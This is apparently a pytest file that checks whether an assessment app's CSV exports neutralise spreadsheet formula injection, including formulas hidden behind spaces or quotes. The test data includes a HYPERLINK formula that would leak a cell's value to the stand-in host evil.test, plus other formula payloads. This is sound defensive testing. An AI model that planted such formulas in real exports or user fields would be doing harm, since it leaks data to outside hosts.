"""CSV injection: every export, read back through ``csv.reader``, has no text cell a spreadsheet
would run as a formula, also when the formula hides behind leading spaces or quotes (OWASP).

Every payload is seeded into a field that some export shows (names, titles, criterion keys and
titles, level labels, the rubric's title), plus notes and rationales in case a later export adds
them. A cell whose first character after leading whitespace and quotes is dangerous must be the
seeded text with the neutralising apostrophe in front, or a finite number we wrote ourselves.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
from decimal import Decimal

import numpy as np
import pytest
from sqlalchemy import select

from calibration.db import utcnow
from calibration.models import (
    Anchor,
    AnchorKeyEntry,
    AnchorKeyVersion,
    Criterion,
    Level,
    Membership,
    Round,
    RubricVersion,
    User,
)
from calibration.services.exports import OVERVIEW_TABLES, PROFILE_TABLES, ROUND_TABLES, cell, neutralise

from ..factories import submit
from ..factories_reports import add_assessors, assign, insert_sheets, noisy_scores

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PREFIXES = ("", " ", "'", '"')
# Distinct bodies, so a cell can only match the payload it was seeded from.
BODIES = {"=": "1+1", "+": "1+2", "-": "2+3", "@": "SUM(1+1)", "\t": "=1+1", "\r": "=1+1"}


def payloads() -> list[str]:
    out = [
        f"{prefix}{char}{BODIES[char]} #{i}"
        for i, (prefix, char) in enumerate((p, c) for p in PREFIXES for c in DANGEROUS)
    ]
    out += ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', ' "=HYPERLINK("http://evil.test","x")']
    return out


PAYLOADS = payloads()


def first_meaningful(text: str) -> str:
    """The first character a spreadsheet might act on: after leading spaces and quotes (tab and
    carriage return count as dangerous themselves, so they are not skipped)."""
    for ch in text:
        if ch in "'\"" or (ch.isspace() and ch not in "\t\r"):
            continue
        return ch
    return ""


def is_finite_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def read_csv(resp) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert resp.status_code == 200, resp.status_code
    assert resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data().decode("utf-8-sig"), newline="")))


def test_neutralise_looks_past_leading_spaces_and_quotes():
    for text in PAYLOADS:
        assert neutralise(text) == "'" + text, repr(text)
        assert cell(text) == "'" + text
    for text in ("\n=1+1", "\u00a0=1+1", "  '\"@x", "'''-1"):
        assert neutralise(text) == "'" + text, repr(text)
    for text in ("Plain", "", " ", "'", "O'Brien", " Ms. Smith", '"Quoted" title', "#1 anchor", "1-2"):
        assert neutralise(text) == text, repr(text)


def test_numbers_stay_numbers():
    # Only text is neutralised: values we format as numbers are written as numbers, even negative.
    assert cell(-0.25) == "-0.25" and cell(-3) == "-3" and cell(0) == "0"
    assert cell(np.float64(-0.25)) == "-0.25" and cell(np.int64(-3)) == "-3"
    assert cell(Decimal("-1.50")) == "-1.50"
    # Not finite is not a number a spreadsheet can use ("-inf" would even read as a formula): empty.
    assert cell(float("-inf")) == "" and cell(float("nan")) == "" and cell(Decimal("-Infinity")) == ""
    # Text that happens to look like a number is still text.
    assert cell("-0.25") == "'-0.25"


def seed(db, world) -> list[int]:  # type: ignore[no-untyped-def]
    """Put every payload into exported fields; returns the bulk assessors (all with scores)."""
    people = add_assessors(db, world.program_a, 4)
    assign(db, world.round_id, people)
    fields: list[tuple[object, str]] = []
    rubric = db.get(RubricVersion, world.rubric_id)
    fields.append((rubric, "title"))
    for criterion in db.scalars(select(Criterion).where(Criterion.rubric_version_id == world.rubric_id)):
        fields += [(criterion, "title"), (criterion, "key")]
    for level in db.scalars(select(Level).where(Level.rubric_version_id == world.rubric_id)):
        fields.append((level, "label"))
    fields.append((db.get(Round, world.round_id), "name"))
    fields += [(db.get(Anchor, a), "title") for a in world.anchors]
    fields += [
        (db.get(User, uid), "name") for uid in [world.ids["assessor"], world.ids["assessor2"], *people]
    ]
    assert len(fields) >= len(PAYLOADS)
    for i, (obj, attr) in enumerate(fields):
        setattr(obj, attr, PAYLOADS[i % len(PAYLOADS)])
    rationales = db.scalars(
        select(AnchorKeyEntry).join(AnchorKeyVersion).where(AnchorKeyVersion.anchor_id.in_(world.anchors))
    )
    for i, entry in enumerate(rationales):
        entry.rationale = PAYLOADS[i % len(PAYLOADS)]
    # One assessor's certification ran out three days ago: the overview's "due" table shows a
    # negative number of days left, which must stay a number.
    membership = db.scalar(select(Membership).where(Membership.user_id == people[0]))
    membership.certification_expires_at = utcnow() - dt.timedelta(days=3, hours=1)
    db.commit()
    scores = noisy_scores(world, people[1:], seed=5)
    lowest = min(world.levels)
    for anchor in world.anchors:  # a severe assessor: a negative mean signed deviation
        scores[(anchor, people[0])] = [max(lowest, k - 1) for k in world.keys[anchor]]
    insert_sheets(db, world.round_id, scores)
    for i in range(2):
        submit(db, world, "assessor", i, notes=PAYLOADS[i])
    return people


def test_every_export_neutralises_formulas_after_spaces_and_quotes(client, login, world, db):
    people = seed(db, world)
    login(world.emails["trainer"])
    base = f"/trainer/rounds/{world.round_id}/export.csv"
    urls = [f"{base}?table={t}" for t in ROUND_TABLES]
    urls += [f"{base}?table={t}&key=current" for t in ROUND_TABLES]
    urls += [f"/trainer/assessors/{uid}/export.csv?table={t}" for uid in people for t in PROFILE_TABLES]
    urls += [f"/trainer/overview/export.csv?table={t}" for t in OVERVIEW_TABLES]
    seen: set[str] = set()
    numbers: dict[tuple[str, str], list[float]] = {}
    for url in urls:
        header, *rows = read_csv(client.get(url))
        for row in rows:
            assert len(row) == len(header), url
            for name, value in zip(header, row, strict=True):
                if is_finite_number(value):
                    numbers.setdefault((url, name), []).append(float(value))
                    continue
                if first_meaningful(value) in DANGEROUS:
                    # Only the seeded text, with the apostrophe that makes it plain text.
                    assert value.startswith("'") and value[1:] in PAYLOADS, (url, name, value)
                    seen.add(value[1:])
    assert seen == set(PAYLOADS)  # every payload reached some export, neutralised
    severe = numbers[(f"{base}?table=accuracy", "mean_signed_deviation")]
    assert min(severe) < 0  # a negative deviation is still a number
    assert numbers[("/trainer/overview/export.csv?table=due", "days_left")] == [-3.0]


@pytest.mark.parametrize("table", ["scores", "accuracy"])
def test_the_issue_example_space_then_equals(client, login, world, db, table):
    """The reported case: a name `` =1+1`` came out unchanged in the scores and accuracy exports."""
    db.get(User, world.ids["assessor"]).name = " =1+1"
    db.commit()
    submit(db, world, "assessor", 0)
    login(world.emails["trainer"])
    header, *rows = read_csv(client.get(f"/trainer/rounds/{world.round_id}/export.csv?table={table}"))
    names = {row[header.index("assessor")] for row in rows}
    assert "' =1+1" in names and " =1+1" not in names
